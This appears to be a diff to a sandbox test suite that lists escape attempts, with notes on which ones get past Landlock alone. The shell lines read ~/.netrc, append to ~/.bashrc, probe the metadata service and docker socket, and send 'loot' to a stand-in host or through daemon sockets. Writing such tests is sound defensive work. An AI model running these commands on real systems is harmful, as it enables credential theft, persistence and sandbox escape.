@@ -33,6 +33,11 @@ class Attack:
     layer: str
     line: str
     works: bool = True
+    past_landlock: str = ""
+    """Why the weaker sandbox, without namespaces, does not stop it; empty where it does."""
+
+
+_MODES = "Landlock does not judge changes of modes, owners and times"
 
 
 def _read(name: str, line: str, *, works: bool = True) -> Attack:
@@ -77,7 +82,7 @@ FILES = (
     _read("by a here-document", "cat <<X\n$(<{home}/.netrc)\nX"),
 )
 WRITES = tuple(
-    Attack(WRITE, name, READ_ONLY, line, works)
+    Attack(WRITE, name, READ_ONLY, line, works, _MODES if "chmod 777" in line else "")
     for name, line, works in (
         ("bashrc", "echo 'evil' >> ~/.bashrc", True),
         ("profile", "echo 'evil' >> ~/.profile", True),
@@ -141,6 +146,9 @@ NETWORK = tuple(
         ("metadata service", "exec 3<>/dev/tcp/169.254.169.254/80", False),
         ("resolver", "getent hosts loot.example.com", False),
         ("abstract socket", "python3 -c \"import socket;s=socket.socket(1);s.connect('\\0/tmp/.X11-unix/X0')\"", False),
+        ("a daemon's socket", "python3 -c \"import socket;s=socket.socket(1);s.connect('{outside}/agent.sock')\"", True),
+        ("a daemon's socket by datagrams",
+         "python3 -c \"import socket;s,_=socket.socketpair(1,2);s.sendto(b'loot','{outside}/log.sock')\"", True),
         ("docker socket", "ls /var/run/docker.sock && exec 3<>/var/run/docker.sock", False),
         ("D-Bus", "python3 -c \"import socket;s=socket.socket(1);s.connect('/run/dbus/system_bus_socket')\"", False),
         ("ping", "ping -c1 -W1 127.0.0.1 && echo loot > /dev/udp/127.0.0.1/{udp}", False),
